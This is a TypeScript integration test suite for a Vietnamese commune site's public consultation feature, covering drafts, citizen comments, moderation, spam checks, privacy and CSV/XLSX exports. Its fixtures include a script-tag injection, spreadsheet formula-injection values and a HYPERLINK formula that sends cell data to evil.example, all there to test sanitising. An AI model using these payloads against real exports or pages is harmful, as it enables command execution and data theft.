// Drafts open for comment end to end, on SQLite and PostgreSQL: the board
// writes a draft with its parts and files (a period shorter than the rule is
// refused), publishes it; citizens comment while it is open; nothing shows
// before moderation; the drafting agency responds; the form closes with the
// closing date; the results are published. Spam is refused, commenters'
// personal data never reaches a public page, exports hold every comment, and
// only the board's moderators of the same site get in.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { Agent, mailText, textOf } from '../../../test/support/agent.ts';
import { buildTestApp, TestClock, type TestApp } from '../../../test/support/app.ts';
import { forEachEngine } from '../../../test/support/databases.ts';
import { makePng } from '../../../test/support/docx.ts';
import { makeBoard, type Board, type BoardRole } from '../../../test/support/editorial.ts';
import { makeUser, systemActor, type TestUser } from '../../../test/support/factories.ts';
import { addRuleVersion } from '../rules/store.ts';
import { readTable } from '../../platform/spreadsheet.ts';
import { indexOpenedDrafts } from '../citizens/jobs.ts';
import { ADDRESS_LIMIT } from '../citizens/protection.ts';

const pdf = Buffer.from('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1');

/** The commenters: none of this may ever appear on a public page. */
const PEOPLE = [
  { name: 'Trần Thị Góp Ý', email: 'gopy.tran@example.vn', organisation: 'Hợp tác xã Chè Bí Mật', part: 'Điều 1', comment: 'Đề nghị bổ sung đối tượng hộ kinh doanh vào Điều 1.' },
  { name: 'Lê Văn Kiến Nghị', email: 'kiennghi.le@example.vn', organisation: 'Công ty TNHH Ẩn Danh', part: 'Chương II', comment: 'Chương II nên quy định rõ thời hạn giải quyết hồ sơ.' },
  { name: 'Phạm Quảng Cáo', email: 'quangcao.pham@example.vn', organisation: 'Cửa hàng Rao Vặt', part: '', comment: 'Mua hàng giá rẻ tại cửa hàng chúng tôi.' },
];
const PRIVATE = PEOPLE.flatMap((p) => [p.name, p.email, p.organisation]);

function draftForm(overrides: Record<string, string> = {}): Record<string, string> {
  return {
    title: 'Dự thảo Quyết định ban hành Quy chế quản lý chợ trên địa bàn xã',
    docType: 'quyet-dinh',
    draftingAgency: 'Phòng Kinh tế',
    summary: 'Quy định việc quản lý, khai thác chợ; trách nhiệm của ban quản lý và tiểu thương.',
    body: '<p>Điều 1. Phạm vi điều chỉnh</p><script>alert(1)</script><p>Điều 2. Đối tượng áp dụng</p>',
    parts: 'Điều 1\nĐiều 2\n\nChương II\nĐiều 1',
    contact: 'Phòng Kinh tế, Ủy ban nhân dân xã\nĐiện thoại 0260 3862 000\nkinhte@layykien.test',
    opensOn: '2026-11-24',
    closesOn: '2026-12-14',
    lockVersion: '0',
    ...overrides,
  };
}

const stampOf = (html: string) => /name="stamp" value="([^"]+)"/.exec(html)![1]!;

forEachEngine('drafts open for comment', (engine) => {
  let t: TestApp;
  let b: Board;
  let other: Board;
  let responder: TestUser;
  let agents = new Map<string, Agent>();
  let id = 0;
  let slug = '';
  const commentIds: number[] = [];

  const agent = async (board: Board, role: BoardRole | 'responder') => {
    const key = `${board.site.key}:${role}`;
    if (!agents.has(key)) {
      const a = new Agent(t.app, board.host);
      await a.login(role === 'responder' ? responder.email : board.people[role].email);
      agents.set(key, a);
    }
    return agents.get(key)!;
  };
  /** Moves the clock; sessions older than the idle limit end, so people sign in again. */
  const moveTo = (iso: string) => {
    t.clock.set(iso);
    agents = new Map();
  };
  const get = (url: string, host = b.host) => t.app.inject({ url, headers: { host } });
  const comments = () => t.db.selectFrom('consultation_comments').selectAll().where('site_id', '=', b.site.id).orderBy('id').execute();
  const row = () => t.db.selectFrom('consultations').selectAll().where('id', '=', id).executeTakeFirstOrThrow();

  async function comment(citizen: Agent, fields: Record<string, string>, opts: { wait?: boolean } = {}) {
    const page = await citizen.get(`/lay-y-kien/${slug}`);
    assert.equal(page.statusCode, 200);
    const stamp = stampOf(page.body);
    if (opts.wait !== false) t.clock.advance(10_000);
    return citizen.post(`/lay-y-kien/${slug}`, { stamp, website: '', ...fields }, { csrf: false });
  }

  before(async () => {
    // Monday 23 November 2026, 09:00 in Vietnam.
    t = await buildTestApp(engine, { clock: new TestClock(new Date('2026-11-23T02:00:00Z')) });
    b = await makeBoard(t, 'layykien', { languages: ['vi', 'en'], nameEn: 'Test commune' });
    other = await makeBoard(t, 'xakhac');
    responder = await makeUser(t.db, b.site, ['responder'], { unitId: b.unitId });
  });
  after(async () => t.close());

  test('a period shorter than the rule is refused with the earliest closing date; a draft is created with parts and files and published', async () => {
    const secretariat = await agent(b, 'secretariat');
    const short = await secretariat.post('/admin/consultations', draftForm({ closesOn: '2026-12-05' }));
    assert.equal(short.statusCode, 400);
    assert.match(textOf(short.body), /tối thiểu là 20 ngày .*ngày kết thúc sớm nhất là 14\/12\/2026/);
    assert.match(short.body, /id="closesOn-error"/, 'the problem is next to the closing date');
    const reversed = await secretariat.post('/admin/consultations', draftForm({ closesOn: '2026-11-20', title: '', docType: 'khong-co' }));
    assert.equal(reversed.statusCode, 400);
    const text = textOf(reversed.body);
    assert.match(text, /ngày kết thúc sớm nhất là 14\/12\/2026/);
    assert.match(text, /Ngày kết thúc lấy ý kiến \(20\/11\/2026\) là một ngày đã qua/, 'a date in the past is called so');
    assert.match(text, /Vui lòng nhập tên dự thảo/);
    assert.match(text, /Loại văn bản không có trong danh mục/);
    assert.equal((await t.db.selectFrom('consultations').selectAll().where('site_id', '=', b.site.id).execute()).length, 0, 'nothing stored');

    const created = await secretariat.post('/admin/consultations', draftForm());
    assert.equal(created.statusCode, 303, created.body.slice(0, 800));
    id = Number(/\/admin\/consultations\/(\d+)$/.exec(created.headers.location as string)?.[1]);
    let r = await row();
    slug = r.slug;
    assert.equal(r.status, 'draft');
    assert.deepEqual(JSON.parse(r.parts), ['Điều 1', 'Điều 2', 'Chương II']);
    assert.ok(!r.body!.includes('script'), 'the full text is sanitised');
    assert.match(r.body!, /Phạm vi điều chỉnh/);

    // Files: PDF or Word only, checked by content.
    const form = await secretariat.get(`/admin/consultations/${id}`);
    const lock = /name="lockVersion" value="(\d+)"/.exec(form.body)![1]!;
    const image = await secretariat.upload(`/admin/consultations/${id}/files`, { lockVersion: lock }, { name: 'du-thao.pdf', data: await makePng(8, 8), contentType: 'application/pdf' });
    assert.equal(image.statusCode, 303);
    assert.match(textOf((await secretariat.get(`/admin/consultations/${id}`)).body), /không phải PDF hoặc Word/);
    const uploaded = await secretariat.upload(`/admin/consultations/${id}/files`, { lockVersion: lock }, { name: 'du-thao-quy-che-cho.pdf', data: pdf, contentType: 'application/pdf' });
    assert.equal(uploaded.statusCode, 303);
    r = await row();
    const files = JSON.parse(r.attachment_ids) as number[];
    assert.equal(files.length, 1);
    const media = await t.db.selectFrom('media').selectAll().where('id', '=', files[0]!).executeTakeFirstOrThrow();
    assert.equal(media.ext, 'pdf');
    assert.equal(media.site_id, b.site.id);

    // A stale save is refused and keeps what was typed.
    const stale = await secretariat.post(`/admin/consultations/${id}`, draftForm({ lockVersion: lock, title: 'Tiêu đề viết đè' }));
    assert.equal(stale.statusCode, 409);
    assert.match(stale.body, /Tiêu đề viết đè/);
    assert.equal((await row()).title, draftForm().title);

    const published = await secretariat.post(`/admin/consultations/${id}/publish`);
    assert.equal(published.statusCode, 303);
    assert.equal((await row()).status, 'published');
    const audit = await t.db.selectFrom('audit_log').select('action').where('site_id', '=', b.site.id).where('target_type', '=', 'consultation').execute();
    assert.deepEqual(new Set(audit.map((a) => a.action)), new Set(['consultation.create', 'consultation.update', 'consultation.publish']));

    // Before its opening date it is neither listed, readable nor found.
    assert.equal((await get('/lay-y-kien')).body.includes('Quy chế quản lý chợ'), false);
    assert.equal((await get('/tim-kiem?q=' + encodeURIComponent('quy che quan ly cho'))).body.includes(`/lay-y-kien/${slug}`), false);
    assert.equal((await get(`/lay-y-kien/${slug}`)).statusCode, 404);
    const list = await secretariat.get('/admin/consultations');
    assert.match(textOf(list.body), /Đã đăng, chưa đến ngày bắt đầu/);
  });

  test('while open citizens comment; nothing shows before moderation; moderators are told without personal data', async () => {
    moveTo('2026-11-25T03:00:00Z');
    // The timed job puts drafts that opened into the site search and sitemap.xml.
    await indexOpenedDrafts({ db: t.db, clock: t.clock });
    const found = await get('/tim-kiem?q=' + encodeURIComponent('quy che quan ly cho'));
    assert.match(found.body, new RegExp(`href="/lay-y-kien/${slug}"`));
    assert.match((await get('/sitemap.xml')).body, new RegExp(`/lay-y-kien/${slug}</loc>`));
    const list = await get('/lay-y-kien');
    assert.equal(list.statusCode, 200);
    assert.match(textOf(list.body), /Đang lấy ý kiến .*Quy chế quản lý chợ.*Còn 19 ngày/);
    assert.equal((await get('/en/consultations')).statusCode, 200);
    const page = await get(`/lay-y-kien/${slug}`);
    assert.equal(page.statusCode, 200);
    assert.equal(page.headers['cache-control'], 'no-store', 'the page with a form is not cached');
    const text = textOf(page.body);
    for (const expected of ['Quyết định', 'Phòng Kinh tế', '24/11/2026', '14/12/2026', 'Còn 19 ngày', 'Phạm vi điều chỉnh', 'du-thao-quy-che-cho.pdf', 'Chương II', 'kinhte@layykien.test', 'Gửi ý kiến góp ý', 'không đăng công khai']) {
      assert.ok(text.includes(expected), `the page shows ${expected}`);
    }
    assert.match(page.body, /<meta name="DC.title" content="Dự thảo Quyết định/);

    for (const p of PEOPLE) {
      const sent = await comment(new Agent(t.app, b.host), { name: p.name, email: p.email, organisation: p.organisation, part: p.part, comment: p.comment });
      assert.equal(sent.statusCode, 200, sent.body.slice(0, 400));
      assert.match(textOf(sent.body), /đang chờ kiểm duyệt/);
    }
    const stored = await comments();
    assert.equal(stored.length, 3);
    assert.deepEqual(stored.map((c) => c.status), ['pending', 'pending', 'pending']);
    assert.deepEqual(stored.map((c) => c.part), ['Điều 1', 'Chương II', null]);
    commentIds.push(...stored.map((c) => c.id));

    const after = textOf((await get(`/lay-y-kien/${slug}`)).body);
    assert.ok(!after.includes(PEOPLE[0]!.comment), 'a pending comment is not public');
    assert.match(after, /Ý kiến đã nhận \(0\)/);

    const notes = await t.db.selectFrom('notifications').selectAll().where('site_id', '=', b.site.id).where('kind', '=', 'consultation.comment').execute();
    const told = new Set(notes.map((n) => n.user_id));
    for (const role of ['secretariat', 'deputy', 'editor_in_chief'] as const) assert.ok(told.has(b.people[role].id), `${role} is told`);
    assert.ok(!told.has(b.people.contributor.id) && !told.has(responder.id), 'only moderators are told');
    for (const n of notes) for (const secret of PRIVATE) assert.ok(!`${n.title} ${n.body}`.includes(secret), 'no personal data in a notification');
    // Each sender is told it arrived, what happens to it and where the results will be.
    const receipt = t.sentMail().map(mailText).find((m) => m.includes(`To: ${PEOPLE[0]!.email}`));
    assert.ok(receipt, 'a receipt to the sender');
    assert.match(receipt, /Ý kiến góp ý của bạn về dự thảo «Dự thảo Quyết định ban hành Quy chế quản lý chợ trên địa bàn xã» đã được tiếp nhận/);
    assert.match(receipt, /không kèm họ tên, địa chỉ thư điện tử/);
    assert.ok(receipt.includes(`/lay-y-kien/${slug}`), 'with the draft’s address');
  });

  test('an open draft keeps the dates the public was told: not re-dated into the past, not shortened; other edits save', async () => {
    const secretariat = await agent(b, 'secretariat');
    const lockOf = async () => /name="lockVersion" value="(\d+)"/.exec((await secretariat.get(`/admin/consultations/${id}`)).body)![1]!;
    const before = await row();
    const past = await secretariat.post(`/admin/consultations/${id}`, draftForm({ lockVersion: await lockOf(), opensOn: '2026-11-01', closesOn: '2026-11-24' }));
    assert.equal(past.statusCode, 400);
    const text = textOf(past.body);
    assert.match(text, /bắt đầu lấy ý kiến từ ngày 24\/11\/2026: không thay đổi ngày bắt đầu/);
    assert.match(text, /chỉ có thể gia hạn, không rút ngắn/);
    const shorter = await secretariat.post(`/admin/consultations/${id}`, draftForm({ lockVersion: await lockOf(), closesOn: '2026-12-13' }));
    assert.equal(shorter.statusCode, 400);
    assert.match(shorter.body, /id="closesOn-error"/);
    const after = await row();
    assert.deepEqual([after.opens_on, after.closes_on, after.lock_version], [before.opens_on, before.closes_on, before.lock_version], 'nothing saved');
    // A correction of the text with the announced dates saves.
    const fixed = await secretariat.post(`/admin/consultations/${id}`, draftForm({ lockVersion: await lockOf(), contact: 'Phòng Kinh tế, Ủy ban nhân dân xã\nĐiện thoại 0260 3862 001' }));
    assert.equal(fixed.statusCode, 303, fixed.body.slice(0, 500));
    assert.equal((await row()).closes_on, '2026-12-14');
  });

  test('each problem of the comment form is next to its field; a part not in the draft is refused', async () => {
    const citizen = new Agent(t.app, b.host);
    const bad = await comment(citizen, { name: '', email: 'khong-phai-email', organisation: '', part: 'Điều 99', comment: '' });
    assert.equal(bad.statusCode, 400);
    for (const field of ['name', 'email', 'part', 'comment']) assert.match(bad.body, new RegExp(`id="${field}-error"`), `${field} has its error`);
    assert.match(bad.body, /value="khong-phai-email"/, 'what was typed is kept');
    assert.equal((await comments()).length, 3);
  });

  test('the same comment sent again (a reload of the confirmation) is stored once and told once', async () => {
    const before = (await comments()).length;
    const citizen = new Agent(t.app, b.host);
    const page = await citizen.get(`/lay-y-kien/${slug}`);
    const fields = { stamp: stampOf(page.body), website: '', name: 'Lê Văn Gửi Lại', email: 'gui.lai@example.vn', organisation: '', part: 'Điều 2', comment: 'Đề nghị bổ sung quy định về giờ mở cửa chợ.' };
    t.clock.advance(10_000);
    const notices = async () => (await t.db.selectFrom('notifications').select('id').where('site_id', '=', b.site.id).where('kind', '=', 'consultation.comment').execute()).length;
    const told = await notices();
    assert.equal((await citizen.post(`/lay-y-kien/${slug}`, fields, { csrf: false })).statusCode, 200);
    const toldOnce = await notices();
    assert.ok(toldOnce > told, 'the moderators are told');
    t.clock.advance(30_000);
    const again = await citizen.post(`/lay-y-kien/${slug}`, fields, { csrf: false });
    assert.equal(again.statusCode, 200);
    assert.match(textOf(again.body), /đang chờ kiểm duyệt/, 'the same confirmation');
    assert.equal((await comments()).length, before + 1, 'one comment');
    assert.equal(await notices(), toldOnce, 'and not told again');
    // The later tests count and moderate the comments they sent: this one goes.
    await t.db.deleteFrom('consultation_comments').where('site_id', '=', b.site.id).where('email', '=', 'gui.lai@example.vn').execute();
  });

  test('spam is refused: honeypot and forged stamps store nothing, too fast is asked again, one address is limited', async () => {
    const before = (await comments()).length;
    const valid = { name: 'Rô Bốt', email: 'robot@example.vn', organisation: '', part: '', comment: 'Quảng cáo' };
    const robot = new Agent(t.app, b.host);
    const trapped = await comment(robot, { ...valid, website: 'http://spam.example' });
    assert.equal(trapped.statusCode, 200);
    assert.match(textOf(trapped.body), /đang chờ kiểm duyệt/, 'a robot is not told it was caught');
    const forged = await robot.post(`/lay-y-kien/${slug}`, { ...valid, stamp: '1700000000000.deadbeefdeadbeefdeadbeefdeadbeef', website: '' }, { csrf: false });
    assert.equal(forged.statusCode, 200);
    const quick = await comment(robot, valid, { wait: false });
    assert.equal(quick.statusCode, 400);
    assert.match(textOf(quick.body), /gửi quá nhanh/);
    assert.equal((await comments()).length, before, 'nothing stored');

    // One address: the site's comments from it in the window count, whatever the draft.
    const flood = 'nhieu.lan@example.vn';
    for (let i = 0; i < ADDRESS_LIMIT.max; i += 1) {
      await t.db.insertInto('consultation_comments').values({ site_id: b.site.id, consultation_id: id, part: null, name: 'Người gửi nhiều', email: flood, organisation: null, body: `Ý kiến thứ ${i + 1}`, status: 'rejected', moderated_by_user_id: null, moderated_at: null, moderation_note: null, response_kind: null, response: null, personal_data_erased_at: null, created_at: t.clock.now().toISOString() }).execute();
    }
    const limited = await comment(new Agent(t.app, b.host), { ...valid, name: 'Người gửi nhiều', email: flood, comment: 'Thêm một ý kiến nữa' });
    assert.equal(limited.statusCode, 422);
    assert.match(limited.body, /id="email-error"/);
    assert.match(textOf(limited.body), /đã gửi 5 ý kiến trong 24 giờ qua/);
    assert.equal((await comments()).length, before + ADDRESS_LIMIT.max);
  });

  test('moderators approve and reject; the approved show numbered, without their senders; responses wait for the results', async () => {
    const secretariat = await agent(b, 'secretariat');
    const [first, second, third] = commentIds as [number, number, number];
    const queue = await secretariat.get(`/admin/consultations/${id}/comments`);
    assert.equal(queue.statusCode, 200);
    assert.ok(textOf(queue.body).includes(PEOPLE[0]!.email), 'moderators see who wrote');
    assert.equal((await secretariat.post(`/admin/consultations/${id}/comments/${first}/approve`)).statusCode, 303);
    assert.equal((await secretariat.post(`/admin/consultations/${id}/comments/${second}/approve`)).statusCode, 303);
    assert.equal((await secretariat.post(`/admin/consultations/${id}/comments/${third}/reject`, { note: 'Quảng cáo, không liên quan dự thảo' })).statusCode, 303);
    const stored = await comments();
    assert.deepEqual(stored.filter((c) => commentIds.includes(c.id)).map((c) => c.status), ['approved', 'approved', 'rejected']);
    assert.equal(stored.find((c) => c.id === third)!.moderation_note, 'Quảng cáo, không liên quan dự thảo');

    const page = textOf((await get(`/lay-y-kien/${slug}`)).body);
    assert.match(page, /Ý kiến đã nhận \(2\)/);
    assert.match(page, /Ý kiến 1 Về: Điều 1 Đề nghị bổ sung đối tượng hộ kinh doanh/);
    assert.match(page, /Ý kiến 2 Về: Chương II/);
    assert.ok(!page.includes(PEOPLE[2]!.comment), 'a rejected comment is not public');

    const respond = (comment: number, kind: string, response: string) => secretariat.post(`/admin/consultations/${id}/comments/${comment}/respond`, { kind, response });
    const missing = await respond(first, '', '');
    assert.equal(missing.statusCode, 400);
    assert.match(textOf(missing.body), /Vui lòng chọn tiếp thu hoặc giải trình.*Vui lòng nhập nội dung tiếp thu, giải trình/);
    assert.equal((await respond(first, 'accepted', 'Tiếp thu: bổ sung hộ kinh doanh vào khoản 2 Điều 1.')).statusCode, 303);
    assert.equal((await respond(second, 'explained', 'Thời hạn đã quy định tại Điều 12, không nhắc lại.')).statusCode, 303);
    await respond(third, 'accepted', 'Không được phép');
    assert.equal(stored.find((c) => c.id === third)!.response, null);
    assert.equal((await comments()).find((c) => c.id === third)!.response, null, 'a rejected comment gets no response');
    assert.ok(!textOf((await get(`/lay-y-kien/${slug}`)).body).includes('bổ sung hộ kinh doanh vào khoản 2'), 'responses wait for the results');

    const early = await secretariat.post(`/admin/consultations/${id}/summary`, { resultsSummary: '<p>Tổng hợp</p>' });
    assert.equal(early.statusCode, 303);
    assert.equal((await row()).results_summary, null, 'no summary before the closing date');
  });

  test('the form closes with the closing date: the day after, a comment is refused and nothing is stored', async () => {
    moveTo('2026-12-14T16:00:00Z'); // 23:00 on 14/12 in Vietnam: the last day
    const citizen = new Agent(t.app, b.host);
    const last = await citizen.get(`/lay-y-kien/${slug}`);
    assert.match(textOf(last.body), /Hôm nay là ngày cuối cùng lấy ý kiến/);
    const stamp = stampOf(last.body);
    moveTo('2026-12-14T17:30:00Z'); // 00:30 on 15/12
    const closed = await get(`/lay-y-kien/${slug}`);
    assert.equal(closed.statusCode, 200);
    const text = textOf(closed.body);
    assert.match(text, /Đã hết thời gian lấy ý kiến/);
    assert.ok(!closed.body.includes('name="stamp"'), 'no form after the closing date');
    const before = (await comments()).length;
    const refused = await citizen.post(`/lay-y-kien/${slug}`, { stamp, website: '', name: 'Người Đến Muộn', email: 'muon@example.vn', organisation: '', part: '', comment: 'Góp ý muộn' }, { csrf: false });
    assert.equal(refused.statusCode, 409);
    assert.match(textOf(refused.body), /ý kiến của bạn không được ghi nhận/);
    assert.equal((await comments()).length, before);
    assert.match(textOf((await get('/lay-y-kien')).body), /Đã hết thời gian lấy ý kiến .*Quy chế quản lý chợ/);
  });

  test('after the closing date the board writes the results and concludes; the page shows the results and responses', async () => {
    const secretariat = await agent(b, 'secretariat');
    await secretariat.post(`/admin/consultations/${id}/conclude`);
    assert.equal((await row()).status, 'published', 'no conclusion without a summary');
    assert.match(textOf((await secretariat.get(`/admin/consultations/${id}/comments`)).body), /Nhập báo cáo tổng hợp/);

    const saved = await secretariat.post(`/admin/consultations/${id}/summary`, { resultsSummary: '<p>Nhận được 2 ý kiến hợp lệ: tiếp thu 1, giải trình 1.</p><script>x()</script>' });
    assert.equal(saved.statusCode, 303);
    assert.equal((await row()).results_summary, '<p>Nhận được 2 ý kiến hợp lệ: tiếp thu 1, giải trình 1.</p>');
    const concluded = await secretariat.post(`/admin/consultations/${id}/conclude`);
    assert.equal(concluded.statusCode, 303);
    const r = await row();
    assert.equal(r.status, 'concluded');
    assert.ok(r.concluded_at);

    const page = textOf((await get(`/lay-y-kien/${slug}`)).body);
    assert.match(page, /Kết quả lấy ý kiến Nhận được 2 ý kiến hợp lệ: tiếp thu 1, giải trình 1\./);
    assert.match(page, /Tiếp thu, giải trình của cơ quan soạn thảo: Tiếp thu Tiếp thu: bổ sung hộ kinh doanh vào khoản 2 Điều 1\./);
    assert.match(page, /Giải trình Thời hạn đã quy định tại Điều 12/);
    assert.match(textOf((await get('/lay-y-kien')).body), /Đã công bố kết quả .*Quy chế quản lý chợ/);
    const actions = await t.db.selectFrom('audit_log').select('action').where('site_id', '=', b.site.id).where('target_type', '=', 'consultation').execute();
    for (const a of ['consultation.comment_approve', 'consultation.comment_reject', 'consultation.comment_respond', 'consultation.summary', 'consultation.conclude']) assert.ok(actions.some((x) => x.action === a), a);
  });

  test('no public page holds a commenter\'s name, e-mail or organisation', async () => {
    for (const url of ['/lay-y-kien', '/en/consultations', `/lay-y-kien/${slug}`, '/', '/so-do-trang', '/sitemap.xml', '/rss.xml', `/tim-kiem?q=${encodeURIComponent('Góp Ý')}`]) {
      const res = await get(url);
      for (const secret of PRIVATE) assert.ok(!res.body.includes(secret), `${url} does not show ${secret}`);
    }
  });

  test('the comments export to CSV and XLSX, moderated ones only unless asked, with formulas neutralised, for moderators only', async () => {
    // A citizen's text that a spreadsheet would run, one moderated and one nobody has looked at.
    const insert = (body: string, status: 'approved' | 'pending') =>
      t.db.insertInto('consultation_comments').values({ site_id: b.site.id, consultation_id: id, part: null, name: '=cmd|\' /C calc\'!A0', email: 'congthuc@example.vn', organisation: '@SUM(1+1)', body, status, moderated_by_user_id: null, moderated_at: null, moderation_note: null, response_kind: null, response: null, personal_data_erased_at: null, created_at: t.clock.now().toISOString() }).execute();
    await insert('-2+3 là góp ý có dấu trừ ở đầu', 'approved');
    await insert('=HYPERLINK("http://evil.example/?d="&C2,"Xem chi tiết")', 'pending');
    const secretariat = await agent(b, 'secretariat');
    assert.match((await secretariat.get(`/admin/consultations/${id}/comments`)).body, /comments\.csv\?chua-kiem-duyet=1/, 'the page offers the export with unmoderated comments');
    const moderated = 4 + ADDRESS_LIMIT.max;
    for (const kind of ['csv', 'xlsx']) {
      const res = await secretariat.get(`/admin/consultations/${id}/comments.${kind}`);
      assert.equal(res.statusCode, 200);
      assert.match(String(res.headers['content-disposition']), new RegExp(`filename="y-kien-${slug}\\.${kind}"`));
      if (kind === 'csv') {
        assert.ok(res.body.includes(`'=cmd|`) && res.body.includes(`'@SUM(1+1)`) && res.body.includes(`'-2+3 là góp ý`), 'formula-like text is prefixed with an apostrophe');
        assert.ok(!/(^|,)"?[=+@-]/m.test(res.body.replace(/^\ufeff/, '')), 'no cell starts with a formula character');
        assert.ok(!res.body.includes('HYPERLINK'), 'an unmoderated comment is not exported by default');
      }
      const table = await readTable(res.rawPayload);
      assert.deepEqual(table.headers.slice(0, 6), ['STT', 'Phần của dự thảo', 'Họ và tên', 'Thư điện tử', 'Cơ quan, tổ chức', 'Nội dung ý kiến']);
      assert.equal(table.rows.length, moderated);
      assert.ok(table.rows.every((r) => r.cells['Trạng thái'] !== 'Chưa kiểm duyệt'));
      const first = table.rows[0]!.cells;
      assert.equal(first['STT'], '1', 'numbers stay numbers');
      assert.equal(first['Họ và tên'], PEOPLE[0]!.name);
      assert.equal(first['Thư điện tử'], PEOPLE[0]!.email);
      assert.equal(first['Cơ quan, tổ chức'], PEOPLE[0]!.organisation);
      assert.equal(first['Phần của dự thảo'], 'Điều 1');
      assert.equal(first['Trạng thái'], 'Đã duyệt');
      assert.equal(first['Tiếp thu / giải trình'], 'Tiếp thu');
      assert.equal(table.rows[2]!.cells['Trạng thái'], 'Không duyệt');

      const all = await secretariat.get(`/admin/consultations/${id}/comments.${kind}?chua-kiem-duyet=1`);
      assert.equal(all.statusCode, 200);
      assert.match(String(all.headers['content-disposition']), new RegExp(`filename="y-kien-${slug}-gom-chua-kiem-duyet\\.${kind}"`));
      const withPending = await readTable(all.rawPayload);
      assert.equal(withPending.rows.length, moderated + 1);
      const pending = withPending.rows.at(-1)!.cells;
      assert.equal(pending['Trạng thái'], 'Chưa kiểm duyệt', 'marked as such');
      assert.equal(pending['Nội dung ý kiến'], '=HYPERLINK("http://evil.example/?d="&C2,"Xem chi tiết")', 'read back as typed');
    }
    const audit = await t.db.selectFrom('audit_log').select('details').where('site_id', '=', b.site.id).where('action', '=', 'consultation.export').execute();
    assert.equal(audit.length, 4, 'exports are audited');
    assert.equal(audit.filter((a) => JSON.parse(a.details).includePending === true).length, 2);
  });

  test('a responder and a contributor are refused the back office of consultations', async () => {
    const before = JSON.stringify(await comments());
    for (const role of ['responder', 'contributor'] as const) {
      const person = await agent(b, role);
      for (const url of ['/admin/consultations', `/admin/consultations/${id}`, `/admin/consultations/${id}/comments`, `/admin/consultations/${id}/comments.csv`, `/admin/consultations/${id}/comments.xlsx?chua-kiem-duyet=1`]) {
        assert.equal((await person.get(url)).statusCode, 403, `${role} GET ${url}`);
      }
      assert.equal((await person.post('/admin/consultations', draftForm())).statusCode, 403);
      assert.equal((await person.post(`/admin/consultations/${id}/comments/${commentIds[2]}/approve`)).statusCode, 403);
      assert.equal((await person.post(`/admin/consultations/${id}/unpublish`)).statusCode, 403);
    }
    assert.equal(JSON.stringify(await comments()), before);
    assert.equal((await row()).status, 'concluded');
  });

  test('a consultation of another site is 404 there, in the back office and in public', async () => {
    const stranger = await agent(other, 'secretariat');
    for (const url of [`/admin/consultations/${id}`, `/admin/consultations/${id}/comments`, `/admin/consultations/${id}/comments.xlsx`]) assert.equal((await stranger.get(url)).statusCode, 404, url);
    assert.equal((await stranger.post(`/admin/consultations/${id}/unpublish`)).statusCode, 404);
    assert.equal((await stranger.post(`/admin/consultations/${id}/comments/${commentIds[0]}/reject`)).statusCode, 404);
    assert.equal((await get(`/lay-y-kien/${slug}`, other.host)).statusCode, 404);
    assert.ok(!(await stranger.get('/admin/consultations')).body.includes('Quy chế quản lý chợ'));
    assert.equal((await row()).status, 'concluded');
    assert.equal((await comments()).find((c) => c.id === commentIds[0])!.status, 'approved');
  });

  test('unpublish takes a draft off the site; delete removes it from the lists', async () => {
    const secretariat = await agent(b, 'secretariat');
    assert.equal((await secretariat.post(`/admin/consultations/${id}/unpublish`)).statusCode, 303);
    assert.equal((await get(`/lay-y-kien/${slug}`)).statusCode, 404);
    assert.doesNotMatch((await get('/sitemap.xml')).body, new RegExp(`/lay-y-kien/${slug}</loc>`));
    assert.ok(!(await get('/lay-y-kien')).body.includes('Quy chế quản lý chợ'));
    assert.equal((await secretariat.post(`/admin/consultations/${id}/publish`)).statusCode, 303);
    assert.equal((await row()).status, 'concluded', 'republishing keeps the results');
    assert.equal((await get(`/lay-y-kien/${slug}`)).statusCode, 200);
    assert.equal((await secretariat.post(`/admin/consultations/${id}/delete`)).statusCode, 303);
    assert.ok((await row()).deleted_at);
    assert.equal((await get(`/lay-y-kien/${slug}`)).statusCode, 404);
    assert.equal((await secretariat.get(`/admin/consultations/${id}`)).statusCode, 404);
    assert.ok(!(await secretariat.get('/admin/consultations')).body.includes('Quy chế quản lý chợ'));
  });

  test('a site that counts the minimum in working days gets the earliest closing date on its calendar', async () => {
    // From 1 January 2026 this site asks for 10 working days (a site rule beside the national baseline).
    await addRuleVersion(t.db, systemActor(other.site.id), { siteId: other.site.id, key: 'deadline.consultation_minimum', value: { amount: 10, unit: 'working_days' }, effectiveFrom: '2026-01-01', citation: 'Quy chế của xã' });
    const secretariat = await agent(other, 'secretariat');
    // Tuesday 1 December + 10 working days (two weekends) = Tuesday 15 December.
    const short = await secretariat.post('/admin/consultations', draftForm({ opensOn: '2026-12-01', closesOn: '2026-12-14' }));
    assert.equal(short.statusCode, 400);
    assert.match(textOf(short.body), /tối thiểu là 10 ngày làm việc .*ngày kết thúc sớm nhất là 15\/12\/2026/);
    const enough = await secretariat.post('/admin/consultations', draftForm({ opensOn: '2026-12-01', closesOn: '2026-12-15' }));
    assert.equal(enough.statusCode, 303);
    // The rule in force on the opening date decides: before 2026 the baseline of 20 days applies.
    const older = await secretariat.post('/admin/consultations', draftForm({ title: 'Dự thảo cũ', opensOn: '2025-12-01', closesOn: '2025-12-15' }));
    assert.equal(older.statusCode, 400);
    assert.match(textOf(older.body), /tối thiểu là 20 ngày .*sớm nhất là 21\/12\/2025/);
  });
});
